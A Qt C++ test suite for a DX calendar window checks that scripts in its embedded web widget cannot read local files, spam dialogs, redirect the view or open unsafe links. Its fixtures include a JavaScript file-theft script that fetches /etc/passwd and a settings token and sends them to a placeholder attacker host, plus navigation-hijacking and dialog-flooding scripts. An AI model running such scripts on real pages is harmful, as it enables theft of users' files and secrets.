#include "LatencyProbe.h"
#include "LocalHttpServer.h"
#include "ProcessMemory.h"
#include "Sanitizers.h"
#include "TestContext.h"

#include "app/Tform1.h"
#include "livecheck/CalendarText.h"
#include "windows/Tdxcalendar.h"

#include <QApplication>
#include <QLineEdit>
#include <QPlainTextEdit>
#include <QPushButton>
#include <QToolButton>
#include <QWebEngineView>
#include <QtTest>

#include <memory>

namespace {

// The calendar rows every hostile widget below also shows, so an activation
// has a calendar to build its list from.
const QByteArray kRows = R"JS(
  document.getElementById('DXNewsCalendar').innerHTML =
    '<div>DXNews.com calendar</div><div>December 2026</div><div>01 Dec - 20 Dec</div>' +
    '<div>3Y0K Bouvet Island</div><div>TX5S Clipperton</div>';
)JS";

// Reads the user's files every way a page can and sends what it found to the
// attacker's host, success or not, so a read that gets through shows there.
const QByteArray kThief = R"JS(
(function () {
  var attacker = '@ATTACKER@';
  function report(what, ok, data) {
    fetch(attacker + '/report?what=' + what + '&ok=' + ok + '&data=' +
          encodeURIComponent(String(data).slice(0, 400)), {mode: 'no-cors'});
  }
  var targets = {
    passwd: 'file:///etc/passwd',
    settings: 'file://@DIR@/settings.ini',
    listing: 'file://@DIR@/'
  };
  Object.keys(targets).forEach(function (name) {
    fetch(targets[name]).then(function (r) { return r.text(); })
      .then(function (t) { report('fetch-' + name, true, t); },
            function (e) { report('fetch-' + name, false, e); });
    try {
      var x = new XMLHttpRequest();
      x.open('GET', targets[name], true);
      x.onload = function () { report('xhr-' + name, true, x.responseText); };
      x.onerror = function () { report('xhr-' + name, false, 'error'); };
      x.send();
    } catch (e) {
      report('xhr-' + name, false, e);
    }
  });
})();
)JS";

// Raises every kind of box a script can, again and again.
const QByteArray kNagger = R"JS(
(function () {
  var answers = [];
  for (var i = 0; i < 5; i++) {
    alert('Javascript Alert ' + i);
    answers.push(confirm('Sure?'), prompt('Name?', 'x'));
  }
  window.onbeforeunload = function (e) { e.preventDefault(); return 'stay'; };
  fetch('@ATTACKER@/report?what=dialogs-done&answers=' + answers.join(','), {mode: 'no-cors'});
})();
)JS";

// Takes the whole view elsewhere once the calendar is in place.
const QByteArray kHijacker = R"JS(
setTimeout(function () { window.location.href = '@OTHER@/other.html'; }, 100);
setTimeout(function () { window.top.location = 'file:///etc/'; }, 300);
setTimeout(function () {
  fetch('@ATTACKER@/report?what=moved', {mode: 'no-cors'});
}, 600);
)JS";

// Links a user may click, each a block of its own, one under the other.
const QByteArray kLinks = R"JS(
(function () {
  var links = [
    ['mailto:dx@example.com', ''], ['dxn://spot/3Y0K', ''], ['file:///etc/passwd', ''],
    ['javascript:void(0)', ''], ['@OTHER@/blank.html', '_blank'], ['@OTHER@/dx.html', '']
  ];
  for (var i = 0; i < links.length; i++) {
    var a = document.createElement('a');
    a.href = links[i][0];
    if (links[i][1]) a.target = links[i][1];
    a.textContent = 'link ' + i;
    a.style.cssText = 'position:fixed;left:0;width:300px;height:30px;display:block;top:' +
                      (i * 40) + 'px';
    document.body.appendChild(a);
  }
})();
)JS";

QByteArray script(QByteArray body, const QMap<QByteArray, QByteArray>& values)
{
    for (auto it = values.begin(); it != values.end(); ++it)
        body.replace(it.key(), it.value());
    return body;
}

QByteArray javascript(const QByteArray& body)
{
    return LocalHttpServer::response(200, "OK", {"Content-Type: application/javascript"}, body);
}

// What reached a host, one decoded request line each.
QStringList requestLines(const LocalHttpServer& host)
{
    QStringList out;
    for (const QByteArray& request : host.requests())
        out << QUrl::fromPercentEncoding(request.left(request.indexOf("\r\n")));
    return out;
}


// The main window whose calendar window loads a widget from a local calendar
// host, an attacker's host that records what reaches it, and another host
// the widget would like to take the view to.
struct GuardedWindow
{
    TestContext ctx;
    LocalHttpServer calendar;
    LocalHttpServer attacker;
    LocalHttpServer other;
    std::unique_ptr<Tform1> form;

    Tdxcalendar* cal() const { return form->calendarWindow(); }
    QUrl pageUrl() const { return QUrl::fromLocalFile(cal()->TempHTMLFilePath); }

    void start(const QByteArray& widget)
    {
        QVERIFY(calendar.start());
        QVERIFY(attacker.start());
        QVERIFY(other.start());
        attacker.setReply(LocalHttpServer::response(204, "No Content", {}, {}));
        other.setReply(LocalHttpServer::response(
            200, "OK", {"Content-Type: text/html"},
            "<html><body><div>OTHER PAGE</div><div>ELSEWHERE</div><div>ELSEWHERE</div>"
            "<div>ZZ9ZZZ</div></body></html>"));
        QFile settings(QDir(ctx.dir()).filePath("settings.ini"));
        QVERIFY(settings.open(QIODevice::WriteOnly));
        settings.write("[Private]\nToken=SettingsSecret4711\n");
        settings.close();
        const QByteArray body = script(widget, {{"@ATTACKER@", attacker.url("").toUtf8()},
                                                {"@OTHER@", other.url("").toUtf8()},
                                                {"@DIR@", ctx.dir().toUtf8()}});
        calendar.setReply(javascript(kRows + body));
        AppContext app = ctx.make();
        app.hosts.calendarWidget = calendar.url("/calendar.php?width=21&lang=en");
        form = std::make_unique<Tform1>(app);
        QSignalSpy loaded(cal()->WebBrowser1, &QWebEngineView::loadFinished);
        form->show();
        QTRY_VERIFY_WITH_TIMEOUT(!loaded.isEmpty(), 30000);
    }

    bool waitForReport(const QString& what, int timeoutMs = 15000)
    {
        return QTest::qWaitFor(
            [&] { return requestLines(attacker).join('\n').contains("what=" + what); },
            timeoutMs);
    }

    void activate()
    {
        QSignalSpy built(cal(), &Tdxcalendar::calendarListBuilt);
        form->SpeedButton3->click();
        QTRY_VERIFY_WITH_TIMEOUT(!built.isEmpty(), 60000);
    }

    // The main window still takes what the user types.
    void verifyTakesInput()
    {
        QVERIFY(!QApplication::activeModalWidget());
        form->activateWindow();
        form->EditCommand->setFocus();
        form->EditCommand->clear();
        QTest::keyClicks(form->EditCommand, "sh/dx");
        QCOMPARE(form->EditCommand->text(), QString("sh/dx"));
    }
};

} // namespace

class TestCalendarGuard : public QObject
{
    Q_OBJECT
private slots:
    void boundedText_data();
    void boundedText();
    void widgetReadsNoFiles();
    void widgetRaisesNoDialogs();
    void viewStaysOnItsPage();
    void onlyWebLinksLeave();
    void hugeWidgetText_data();
    void hugeWidgetText();
};

void TestCalendarGuard::boundedText_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("expected");
    const QString calendar = "DXNews.com calendar\nDecember 2026\n3Y0K Bouvet\n";
    QTest::newRow("calendar as it is") << calendar << calendar;
    QTest::newRow("empty") << QString() << QString();
    QTest::newRow("final break added") << "3Y0K" << "3Y0K\n";
    QTest::newRow("every kind of break kept")
        << "a\r\nb\rc\u2028d\u2029e\n" << "a\r\nb\rc\u2028d\u2029e\n";
    const QString longest(CalendarText::kMaxLineLength, u'x');
    QTest::newRow("longest line whole") << longest + "\nnext\n" << longest + "\nnext\n";
    QTest::newRow("longer line cut, next lines stay")
        << longest + "yyyy\nnext\n" << longest + "\nnext\n";
    QTest::newRow("cut keeps a letter whole")
        << QString(CalendarText::kMaxLineLength - 1, u'x') + QString::fromUtf8("\xF0\x9F\x93\xBB") +
               "\n"
        << QString(CalendarText::kMaxLineLength - 1, u'x') + "\n";
    QString manyLines;
    for (int i = 0; i < CalendarText::kMaxLines + 5; ++i)
        manyLines += QString::number(i % 10) + "\n";
    QTest::newRow("lines after the last allowed dropped")
        << manyLines << manyLines.left(2 * CalendarText::kMaxLines);
    // 30 lines of 30,000 characters: 900,000 in all.
    QString bulky;
    for (int i = 0; i < 30; ++i)
        bulky += QString(30000, QChar(u'a' + i % 26)) + "\n";
    const qsizetype room = CalendarText::kMaxUnits - 2;
    QTest::newRow("text cut at 1 MiB") << bulky << bulky.left(room) + "\n";
}

void TestCalendarGuard::boundedText()
{
    QFETCH(QString, text);
    QFETCH(QString, expected);
    const QString bounded = CalendarText::bounded(text);
    QCOMPARE(bounded.size(), expected.size());
    QCOMPARE(bounded, expected);
    QVERIFY(bounded.size() <= CalendarText::kMaxUnits);
    // What arrives already bounded (from the page's own walk) stays as it is.
    QCOMPARE(CalendarText::bounded(bounded), bounded);
}

void TestCalendarGuard::widgetReadsNoFiles()
{
    GuardedWindow w;
    w.start(kThief);
    // Every read reports, one way or the other.
    for (const char* what : {"fetch-passwd", "xhr-passwd", "fetch-settings", "xhr-settings",
                             "fetch-listing", "xhr-listing"})
        QVERIFY2(w.waitForReport(what), what);
    const QString seen = requestLines(w.attacker).join('\n');
    QVERIFY2(!seen.contains("ok=true"), qPrintable(seen));
    QVERIFY(!seen.contains("root:"));
    QVERIFY(!seen.contains("SettingsSecret4711"));
    QVERIFY(!seen.contains("temp.html"));
    // The widget itself came, and the calendar is read as before.
    w.activate();
    QVERIFY(w.cal()->calendar().FinalstringList().contains("3Y0K"));
}

void TestCalendarGuard::widgetRaisesNoDialogs()
{
    GuardedWindow w;
    w.start(kNagger);
    // The script ran through all its boxes without anyone answering them:
    // each was dropped, and confirm and prompt said no.
    QVERIFY(w.waitForReport("dialogs-done"));
    QVERIFY(requestLines(w.attacker).join('\n').contains(
        "answers=false,,false,,false,,false,,false,"));
    w.verifyTakesInput();
    // Shown, activated and closed with a leave-this-page handler in place.
    w.form->SpeedButton2->click();
    QVERIFY(w.cal()->isVisible());
    w.activate();
    w.cal()->BitBtn1->click();
    QVERIFY(!w.cal()->isVisible());
    w.verifyTakesInput();
    QVERIFY(QApplication::topLevelWidgets().size() >= 2);
    for (QWidget* top : QApplication::topLevelWidgets())
        QVERIFY2(!top->isVisible() || top == w.form.get(), qPrintable(top->objectName()));
}

void TestCalendarGuard::viewStaysOnItsPage()
{
    GuardedWindow w;
    w.start(kHijacker);
    QVERIFY(w.waitForReport("moved"));
    QCOMPARE(w.cal()->WebBrowser1->url(), w.pageUrl());
    // The other page was never even asked for.
    QVERIFY(w.other.requests().isEmpty());
    w.activate();
    QVERIFY(w.cal()->Memo1->toPlainText().startsWith("DXNews.com calendar\n"));
    QVERIFY(w.cal()->calendar().FinalstringList().contains("3Y0K"));
    QVERIFY(!w.cal()->calendar().FinalstringList().contains("ELSEWHERE"));
    QVERIFY2(w.ctx.openedUrls.isEmpty(), qPrintable(w.ctx.openedUrls.value(0).toString()));
}

void TestCalendarGuard::onlyWebLinksLeave()
{
    GuardedWindow w;
    w.start(kLinks);
    w.form->SpeedButton2->click();
    QVERIFY(QTest::qWaitForWindowExposed(w.cal()));
    QWidget* surface = w.cal()->WebBrowser1->focusProxy();
    QVERIFY(surface);
    // The links in the order the widget lays them out; the plain web link
    // last, so once it has gone out every other click has been dealt with.
    for (int i = 0; i < 6; ++i) {
        QTest::mouseClick(surface, Qt::LeftButton, {}, QPoint(150, i * 40 + 15));
        QTest::qWait(200);
    }
    const QUrl blank(w.other.url("/blank.html"));
    const QUrl plain(w.other.url("/dx.html"));
    QTRY_VERIFY_WITH_TIMEOUT(w.ctx.openedUrls.contains(plain), 15000);
    QTest::qWait(300);
    QCOMPARE(w.ctx.openedUrls, (QList<QUrl>{blank, plain}));
    QCOMPARE(w.cal()->WebBrowser1->url(), w.pageUrl());
    QVERIFY(w.other.requests().isEmpty());
}

void TestCalendarGuard::hugeWidgetText_data()
{
    QTest::addColumn<QString>("line");
    QTest::addColumn<int>("repeats");
    QTest::addColumn<bool>("lineBreaks");
    QTest::addColumn<bool>("scrambled");
    // A million characters each way.
    QTest::newRow("many short lines") << "3Y0K" << 200000 << true << false;
    QTest::newRow("many long lines") << "ABCDEFGHIJ 3Y0K QRV 14025 " << 38000 << true << false;
    QTest::newRow("one enormous line") << "ABCDEFGHIJ" << 100000 << false << false;
    // Nearly every window differs from every other: the index is at its
    // largest.
    QTest::newRow("scrambled lines") << "" << 12500 << true << true;
}

void TestCalendarGuard::hugeWidgetText()
{
    QFETCH(QString, line);
    QFETCH(int, repeats);
    QFETCH(bool, lineBreaks);
    QFETCH(bool, scrambled);
    const QString piece = line + (lineBreaks ? "\n" : "");
    // Scrambled: lines of 79 letters and digits drawn by x = x * 48271 mod
    // 2^31 - 1, in the page and here alike.
    const QByteArray text = scrambled
        ? "(function () {"
          "  var x = 1, out = [];"
          "  for (var i = 0; i < " + QByteArray::number(repeats) + "; i++) {"
          "    var l = '';"
          "    for (var k = 0; k < 79; k++) {"
          "      x = (x * 48271) % 2147483647;"
          "      l += '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz/'.charAt(x % 63);"
          "    }"
          "    out.push(l + '\\n');"
          "  }"
          "  return out.join('');"
          "})()"
        : "'" + piece.toUtf8().replace("\n", "\\n") + "'.repeat(" + QByteArray::number(repeats) + ")";
    const QByteArray widget =
        "(function () {"
        "  var d = document.getElementById('DXNewsCalendar');"
        "  d.style.whiteSpace = 'pre';"
        "  d.textContent = " + text + ";"
        "})();";
    GuardedWindow w;
    w.start(widget);
    // The script has just replaced the calendar rows with its own text.
    QString full;
    if (scrambled) {
        const QString alphabet = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz/";
        qint64 x = 1;
        for (int i = 0; i < repeats; ++i) {
            for (int k = 0; k < 79; ++k) {
                x = (x * 48271) % 2147483647;
                full += alphabet.at(x % 63);
            }
            full += u'\n';
        }
    } else {
        full = piece.repeated(repeats);
    }

    // The window is already up: what is measured is the activation.
    w.form->SpeedButton2->click();
    QVERIFY(QTest::qWaitForWindowExposed(w.cal()));
    QTest::qWait(500);
    const qint64 before = ProcessMemory::residentBytes();
    LatencyProbe probe;
    probe.start();
    w.activate();
    probe.stop();
    const qint64 grown = ProcessMemory::residentBytes() - before;

    const QString expected = CalendarText::bounded(full + "\n");
    QVERIFY(expected.size() < full.size());
    QCOMPARE(w.cal()->Memo1->toPlainText(), expected);
    QVERIFY(!w.cal()->calendar().FinalstringList().isEmpty());
    QVERIFY2(probe.worstMs() <= LatencyProbe::kLimitMs,
             qPrintable(QStringLiteral("the window froze for %1 ms").arg(probe.worstMs())));
    QVERIFY2(kAddressSanitizer || grown < 300ll * 1024 * 1024,
             qPrintable(QStringLiteral("memory grew by %1 MB").arg(grown / (1024 * 1024))));
    qInfo("worst freeze %lld ms, memory grown %lld MB, %lld entries", probe.worstMs(),
          grown / (1024 * 1024), qint64(w.cal()->calendar().FinalstringList().size()));

    // The next activation builds the list anew, never holding two at once.
    // Copies of the entries' characters: an entry itself goes with its list.
    QStringList first;
    for (const QString& entry : w.cal()->calendar().FinalstringList().mid(0, 1000))
        first << QString(entry.constData(), entry.size());
    probe.start();
    w.activate();
    probe.stop();
    const qint64 grownAgain = ProcessMemory::residentBytes() - before;
    QCOMPARE(w.cal()->calendar().FinalstringList().mid(0, 1000), first);
    QVERIFY2(probe.worstMs() <= LatencyProbe::kLimitMs,
             qPrintable(QStringLiteral("the window froze for %1 ms").arg(probe.worstMs())));
    QVERIFY2(kAddressSanitizer || grownAgain < 300ll * 1024 * 1024,
             qPrintable(QStringLiteral("memory grew by %1 MB").arg(grownAgain / (1024 * 1024))));
    qInfo("again: worst freeze %lld ms, memory grown %lld MB", probe.worstMs(),
          grownAgain / (1024 * 1024));
    w.verifyTakesInput();
}

QTEST_MAIN(TestCalendarGuard)
#include "tst_calendar_guard.moc"
